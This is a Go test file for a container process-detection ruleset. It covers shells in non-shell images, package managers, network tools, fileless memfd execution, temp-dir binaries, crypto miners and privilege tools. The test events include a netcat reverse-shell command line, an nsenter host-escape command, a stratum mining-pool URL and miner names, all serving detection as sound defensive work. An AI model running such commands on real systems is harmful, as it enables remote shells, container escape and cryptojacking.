package procrules

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/palisade-project/palisade/internal/model"
)

// files returns an InImage predicate for an image whose SBOM lists paths.
func files(paths ...string) func(string) (bool, bool) {
	return func(p string) (bool, bool) { return true, slices.Contains(paths, p) }
}

// server is the command of an image that does not run a shell.
var server = []string{"/app/server", "--port=8080"}

func TestBuiltin(t *testing.T) {
	tests := []struct {
		name string
		rule string // the rule the case exercises
		e    Event
		want []string // "rule-id/severity" of every finding, in order
	}{
		// shell-in-non-shell-image
		{"bash in a server image", "shell-in-non-shell-image",
			Event{Exe: "/bin/bash", Args: []string{"bash"}, ImageEntrypoint: server},
			[]string{"shell-in-non-shell-image/medium"}},
		{"bash in a production server image", "shell-in-non-shell-image",
			Event{Exe: "/usr/bin/bash", Args: []string{"bash", "-i"}, ImageEntrypoint: server, Production: true},
			[]string{"shell-in-non-shell-image/high"}},
		{"busybox as sh", "shell-in-non-shell-image",
			Event{Exe: "/bin/busybox", Args: []string{"/bin/sh", "-c", "id"}, ImageCmd: []string{"/app"}},
			[]string{"shell-in-non-shell-image/medium"}},
		{"dash behind /bin/sh, command unknown", "shell-in-non-shell-image",
			Event{Exe: "/usr/bin/dash", Args: []string{"sh"}},
			[]string{"shell-in-non-shell-image/medium"}},
		{"shell in a shell image", "shell-in-non-shell-image",
			Event{Exe: "/bin/bash", Args: []string{"bash"}, ImageCmd: []string{"/bin/bash"}},
			nil},
		{"shell in a sh -c image", "shell-in-non-shell-image",
			Event{Exe: "/bin/dash", Args: []string{"sh", "-c", "x"}, ImageCmd: []string{"/bin/sh", "-c", "nginx -g 'daemon off;'"}},
			nil},
		{"shell in a busybox sh image", "shell-in-non-shell-image",
			Event{Exe: "/bin/busybox", Args: []string{"sh"}, ImageEntrypoint: []string{"/bin/busybox", "sh"}},
			nil},
		{"shell in an image with an entrypoint script behind tini", "shell-in-non-shell-image",
			Event{Exe: "/bin/bash", Args: []string{"bash", "/usr/local/bin/docker-entrypoint.sh"}, ImageEntrypoint: []string{"/tini", "--", "docker-entrypoint.sh"}, ImageCmd: []string{"postgres"}},
			nil},
		{"server process itself", "shell-in-non-shell-image",
			Event{Exe: "/app/server", Args: server, ImageEntrypoint: server},
			nil},

		// package-manager
		{"apt-get", "package-manager",
			Event{Exe: "/usr/bin/apt-get", Args: []string{"apt-get", "install", "-y", "nmap"}, ImageEntrypoint: server},
			[]string{"package-manager/medium"}},
		{"pip as a python script in production", "package-manager",
			Event{Exe: "/usr/bin/python3.11", Args: []string{"/usr/bin/python3", "/usr/local/bin/pip", "install", "requests"}, ImageEntrypoint: server, Production: true},
			[]string{"package-manager/high"}},
		{"python -m pip", "package-manager",
			Event{Exe: "/usr/local/bin/python3.12", Args: []string{"python3", "-u", "-m", "pip", "install", "x"}, ImageEntrypoint: server},
			[]string{"package-manager/medium"}},
		{"npm through env node", "package-manager",
			Event{Exe: "/usr/local/bin/node", Args: []string{"node", "/usr/local/bin/npm", "install"}, ImageEntrypoint: server},
			[]string{"package-manager/medium"}},
		{"apk", "package-manager",
			Event{Exe: "/sbin/apk", Args: []string{"apk", "add", "curl"}, ImageEntrypoint: server},
			[]string{"package-manager/medium"}},
		{"python application", "package-manager",
			Event{Exe: "/usr/bin/python3.11", Args: []string{"python3", "-m", "gunicorn", "app:app"}, ImageEntrypoint: server},
			nil},
		{"python inline code naming pip", "package-manager",
			Event{Exe: "/usr/bin/python3.11", Args: []string{"python3", "-c", "pip"}, ImageEntrypoint: server},
			nil},

		// network-tool
		{"curl outside production", "network-tool",
			Event{Exe: "/usr/bin/curl", Args: []string{"curl", "-s", "http://10.0.0.1/"}, ImageEntrypoint: server},
			[]string{"network-tool/medium"}},
		{"curl in production", "network-tool",
			Event{Exe: "/usr/bin/curl", Args: []string{"curl", "-s", "http://10.0.0.1/"}, ImageEntrypoint: server, Production: true},
			[]string{"network-tool/high"}},
		{"nc resolved to nc.openbsd", "network-tool",
			Event{Exe: "/bin/nc.openbsd", Args: []string{"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, ImageEntrypoint: server, Production: true},
			[]string{"network-tool/high"}},
		{"busybox wget", "network-tool",
			Event{Exe: "/bin/busybox", Args: []string{"busybox", "wget", "http://x/"}, ImageEntrypoint: server},
			[]string{"network-tool/medium"}},
		{"application binary named like a tool's prefix", "network-tool",
			Event{Exe: "/usr/bin/curlie-not", Args: []string{"curlie-not"}, ImageEntrypoint: server, Production: true},
			nil},

		// binary-not-in-image
		{"binary missing from the file list", "binary-not-in-image",
			Event{Exe: "/usr/local/bin/helper", Args: []string{"helper"}, ImageEntrypoint: server, InImage: files("/app/server")},
			[]string{"binary-not-in-image/high"}},
		{"binary in the file list", "binary-not-in-image",
			Event{Exe: "/app/server", Args: server, ImageEntrypoint: server, InImage: files("/app/server")},
			nil},
		{"file list unknown", "binary-not-in-image",
			Event{Exe: "/usr/local/bin/helper", ImageEntrypoint: server, InImage: func(string) (bool, bool) { return false, false }},
			nil},
		{"no predicate", "binary-not-in-image",
			Event{Exe: "/usr/local/bin/helper", ImageEntrypoint: server},
			nil},

		// fileless-execution
		{"memfd payload", "fileless-execution",
			Event{Exe: "/memfd:x (deleted)", Args: []string{"[kworker/0:1]"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"fexecve through /dev/fd", "fileless-execution",
			Event{Exe: "/dev/fd/3", Args: []string{"payload"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"execveat through another process's descriptor", "fileless-execution",
			Event{Exe: "/proc/1234/fd/7", Args: []string{"payload"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"a payload named like runc's copy of itself", "fileless-execution",
			Event{Exe: "/memfd:runc_cloned:/proc/self/exe", Args: []string{"x"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"descriptor paths written to slip past a text match", "fileless-execution",
			Event{Exe: "/proc/self//fd/3", Args: []string{"x"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"/dev/fd/./3", "fileless-execution",
			Event{Exe: "/dev/fd/./3", Args: []string{"x"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"standard input", "fileless-execution",
			Event{Exe: "/dev/stdin", Args: []string{"x"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"a thread's descriptor", "fileless-execution",
			Event{Exe: "/proc/self/task/41/fd/3", Args: []string{"x"}, ImageEntrypoint: server},
			[]string{"fileless-execution/critical"}},
		{"an ordinary file under /dev", "fileless-execution",
			Event{Exe: "/dev/fd/3x", Args: []string{"x"}, ImageEntrypoint: server},
			nil},
		{"a program named like a descriptor", "fileless-execution",
			Event{Exe: "/opt/fd/3", Args: []string{"x"}, ImageEntrypoint: server},
			nil},

		// exec-from-temp-dir
		{"program in /tmp", "exec-from-temp-dir",
			Event{Exe: "/tmp/x", Args: []string{"./x"}, ImageEntrypoint: server},
			[]string{"exec-from-temp-dir/high"}},
		{"hidden program in /dev/shm, deleted", "exec-from-temp-dir",
			Event{Exe: "/dev/shm/.a/b (deleted)", ImageEntrypoint: server},
			[]string{"exec-from-temp-dir/high"}},
		{"/var/tmp", "exec-from-temp-dir",
			Event{Exe: "/var/tmp/run", ImageEntrypoint: server},
			[]string{"exec-from-temp-dir/high"}},
		{"directory merely starting with tmp", "exec-from-temp-dir",
			Event{Exe: "/tmpfs/bin/app", ImageEntrypoint: server},
			nil},
		{"tmp deeper in the path", "exec-from-temp-dir",
			Event{Exe: "/opt/tmp/app", ImageEntrypoint: server},
			nil},

		// crypto-miner
		{"xmrig", "crypto-miner",
			Event{Exe: "/usr/local/bin/xmrig", Args: []string{"xmrig"}, ImageEntrypoint: server},
			[]string{"crypto-miner/critical"}},
		{"kdevtmpfsi dropped in /tmp, not in the image", "crypto-miner",
			Event{Exe: "/tmp/kdevtmpfsi", Args: []string{"/tmp/kdevtmpfsi"}, ImageEntrypoint: server, InImage: files("/app/server")},
			[]string{"crypto-miner/critical", "binary-not-in-image/high", "exec-from-temp-dir/high"}},
		{"miner-like words only in arguments", "crypto-miner",
			Event{Exe: "/app/server", Args: []string{"/app/server", "--name=xmrig"}, ImageEntrypoint: server},
			nil},

		// crypto-mining-pool
		{"renamed miner with a stratum pool", "crypto-mining-pool",
			Event{Exe: "/usr/sbin/kworkerd", Args: []string{"kworkerd", "-o", "stratum+tcp://pool.example:3333", "-u", "x"}, ImageEntrypoint: server},
			[]string{"crypto-mining-pool/critical"}},
		{"ordinary arguments", "crypto-mining-pool",
			Event{Exe: "/app/server", Args: []string{"/app/server", "--upstream=tcp://db:5432"}, ImageEntrypoint: server},
			nil},

		// privilege-change-tool
		{"sudo", "privilege-change-tool",
			Event{Exe: "/usr/bin/sudo", Args: []string{"sudo", "-i"}, ImageEntrypoint: server},
			[]string{"privilege-change-tool/high"}},
		{"nsenter into the host", "privilege-change-tool",
			Event{Exe: "/usr/bin/nsenter", Args: []string{"nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"}, ImageEntrypoint: server},
			[]string{"privilege-change-tool/high"}},
		{"busybox su", "privilege-change-tool",
			Event{Exe: "/bin/busybox", Args: []string{"su", "root"}, ImageEntrypoint: server},
			[]string{"privilege-change-tool/high"}},
		{"id", "privilege-change-tool",
			Event{Exe: "/usr/bin/id", Args: []string{"id", "-u"}, ImageEntrypoint: server},
			nil},
	}
	rs := Builtin()
	positive, negative := map[string]int{}, map[string]int{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, f := range rs.Evaluate(tt.e) {
				got = append(got, f.RuleID+"/"+string(f.Severity))
				if f.Evidence == "" || f.Rationale == "" || f.Remediation == "" || f.Title == "" {
					t.Errorf("finding %s lacks text: %+v", f.RuleID, f)
				}
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Evaluate (-want +got):\n%s", diff)
			}
		})
		if slices.ContainsFunc(tt.want, func(w string) bool { return strings.HasPrefix(w, tt.rule+"/") }) {
			positive[tt.rule]++
		} else {
			negative[tt.rule]++
		}
	}
	for _, r := range rs.Rules() {
		if positive[r.ID] == 0 || negative[r.ID] == 0 {
			t.Errorf("built-in rule %s needs a positive and a negative case (have %d and %d)", r.ID, positive[r.ID], negative[r.ID])
		}
		if r.Question != QuestionProcesses {
			t.Errorf("built-in rule %s answers question %d, want %d", r.ID, r.Question, QuestionProcesses)
		}
	}
	for id := range positive {
		if !slices.ContainsFunc(rs.Rules(), func(r Rule) bool { return r.ID == id }) {
			t.Errorf("test cases name unknown rule %s", id)
		}
	}
}

func TestShellRuleListsEveryShell(t *testing.T) {
	for _, r := range Builtin().Rules() {
		if r.ID != "shell-in-non-shell-image" {
			continue
		}
		got := slices.Sorted(slices.Values(r.Match.ExeBasenames))
		want := slices.Sorted(maps.Keys(shellNames))
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("shell rule and shellNames differ (-want +got):\n%s", diff)
		}
		return
	}
	t.Fatal("no shell-in-non-shell-image rule")
}

func TestEvidence(t *testing.T) {
	rs := Builtin()
	for _, tt := range []struct {
		name string
		e    Event
		want string
	}{
		{"applet", Event{Exe: "/bin/busybox", Args: []string{"sh"}, ImageEntrypoint: server, Production: true},
			`exe "/bin/busybox" running "sh"; container command "/app/server --port=8080" is not a shell; production`},
		{"temp dir", Event{Exe: "/dev/shm/x", ImageEntrypoint: server},
			`exe "/dev/shm/x"; under /dev/shm`},
		{"arguments cut", Event{Exe: "/x", Args: []string{"x", "stratum+tcp://" + strings.Repeat("a", 300)}},
			`exe "/x"; argument "stratum+tcp://` + strings.Repeat("a", 186) + `"… contains "stratum+tcp://"`},
		{"unknown command", Event{Exe: "/bin/sh"},
			`exe "/bin/sh"; container command unknown`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fs := rs.Evaluate(tt.e)
			if len(fs) != 1 {
				t.Fatalf("got %d findings, want 1: %+v", len(fs), fs)
			}
			if fs[0].Evidence != tt.want {
				t.Errorf("evidence\n got %s\nwant %s", fs[0].Evidence, tt.want)
			}
		})
	}
}

func TestNames(t *testing.T) {
	for _, tt := range []struct {
		exe  string
		args []string
		want []string
	}{
		{"/usr/bin/curl", []string{"curl", "x"}, []string{"curl"}},
		{"/usr/bin/curl", nil, []string{"curl"}},
		{"/bin/busybox", []string{"-sh"}, []string{"busybox", "sh"}},
		{"/bin/busybox", []string{"/bin/busybox", "wget", "u"}, []string{"busybox", "wget"}},
		{"/bin/busybox", []string{"busybox"}, []string{"busybox"}},
		{"/bin/busybox", []string{"busybox", "--help"}, []string{"busybox"}},
		{"/usr/bin/python3.11", []string{"python3", "-B", "/usr/bin/pip3", "install"}, []string{"python3.11", "pip3"}},
		{"/usr/bin/python3.11", []string{"python3"}, []string{"python3.11"}},
		{"/usr/bin/python3.11", []string{"python3", "-m", "pip"}, []string{"python3.11", "pip"}},
		{"/usr/bin/node", []string{"node", "--", "/usr/bin/npm"}, []string{"node", "npm"}},
		{"/usr/bin/node", []string{"node", "-e", "npm"}, []string{"node"}},
		{"/usr/bin/ruby3.1", []string{"ruby", "/usr/bin/gem", "install"}, []string{"ruby3.1", "gem"}},
		{"/usr/bin/pythonista", []string{"pythonista", "pip"}, []string{"pythonista"}},
		{"/usr/sbin/nginx", []string{"sh"}, []string{"nginx"}}, // argv[0] of an ordinary program is not trusted as a name
	} {
		if diff := cmp.Diff(tt.want, Names(tt.exe, tt.args)); diff != "" {
			t.Errorf("Names(%s, %q) (-want +got):\n%s", tt.exe, tt.args, diff)
		}
	}
}

func TestIsShellCommand(t *testing.T) {
	for _, tt := range []struct {
		cmd  []string
		want bool
	}{
		{nil, false},
		{[]string{"/bin/sh", "-c", "exec nginx"}, true},
		{[]string{"bash"}, true},
		{[]string{"/bin/busybox", "sh"}, true},
		{[]string{"/bin/busybox", "httpd"}, false},
		{[]string{"/usr/bin/env", "-i", "PATH=/bin", "bash", "run"}, true},
		{[]string{"/sbin/tini", "-g", "--", "/entrypoint.sh", "app"}, true},
		{[]string{"dumb-init", "--", "/app/server"}, false},
		{[]string{"/tini", "--"}, false},
		{[]string{"/usr/sbin/nginx", "-g", "daemon off;"}, false},
		{[]string{"/docker-entrypoint.sh", "postgres"}, true},
	} {
		if got := IsShellCommand(tt.cmd); got != tt.want {
			t.Errorf("IsShellCommand(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}

func TestSeverityOrder(t *testing.T) {
	rs, err := Builtin().With(Rule{
		ID: "aaa-low", Title: "t", Severity: model.SeverityLow, Rationale: "r", Remediation: "m",
		Match: Match{ExePathPrefixes: []string{"/tmp"}},
	}, Rule{
		ID: "zzz-critical", Title: "t", Severity: model.SeverityCritical, Rationale: "r", Remediation: "m",
		Match: Match{ExePathPrefixes: []string{"/tmp"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rs.Evaluate(Event{Exe: "/tmp/xmrig", ImageEntrypoint: server}) {
		got = append(got, f.RuleID)
	}
	want := []string{"crypto-miner", "zzz-critical", "exec-from-temp-dir", "aaa-low"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("order (-want +got):\n%s", diff)
	}
}

func TestUserRules(t *testing.T) {
	extra, err := LoadFile("testdata/valid/custom.yaml")
	if err != nil {
		t.Fatal(err)
	}
	rs, err := Builtin().With(extra...)
	if err != nil {
		t.Fatal(err)
	}
	if n, want := len(rs.Rules()), len(Builtin().Rules())+2; n != want {
		t.Errorf("%d rules, want %d", n, want)
	}
	for _, tt := range []struct {
		name string
		e    Event
		want []string
	}{
		{"pattern", Event{Exe: "/usr/local/bin/kubectl.1.31", ImageEntrypoint: server}, []string{"kubectl-in-container"}},
		{"outside production", Event{Exe: "/usr/bin/strace", ImageEntrypoint: server}, []string{"debug-shell-outside-production"}},
		{"in production", Event{Exe: "/usr/bin/strace", ImageEntrypoint: server, Production: true}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, f := range rs.Evaluate(tt.e) {
				got = append(got, f.RuleID)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Evaluate (-want +got):\n%s", diff)
			}
		})
	}
	for _, r := range rs.Rules() {
		if r.ID == "kubectl-in-container" && r.Question != QuestionProcesses {
			t.Errorf("omitted question defaults to %d, got %d", QuestionProcesses, r.Question)
		}
	}
	if _, err := rs.With(extra[0]); err == nil || !strings.Contains(err.Error(), `"kubectl-in-container"`) {
		t.Errorf("adding a rule twice: %v, want a duplicate id error", err)
	}
	if _, err := Builtin().With(Rule{ID: "network-tool", Title: "t", Severity: "low", Rationale: "r", Remediation: "m", Match: Match{NotInImage: true}}); err == nil {
		t.Error("a user rule reusing a built-in id was accepted")
	}
}

func TestRulesAreCopies(t *testing.T) {
	rs := Builtin()
	r := rs.Rules()
	i := slices.IndexFunc(r, func(r Rule) bool { return len(r.Match.ExeBasenames) > 0 })
	r[i].Match.ExeBasenames[0] = "changed"
	r[i].Title = "changed"
	if again := rs.Rules()[i]; again.Title == "changed" || again.Match.ExeBasenames[0] == "changed" {
		t.Error("Rules exposes the ruleset's own slices")
	}
}

func BenchmarkEvaluate(b *testing.B) {
	rs := Builtin()
	e := Event{Exe: "/usr/bin/python3.11", Args: []string{"python3", "/srv/app.py", "--workers=4"}, ImageEntrypoint: server, InImage: files("/usr/bin/python3.11")}
	for b.Loop() {
		rs.Evaluate(e)
	}
}
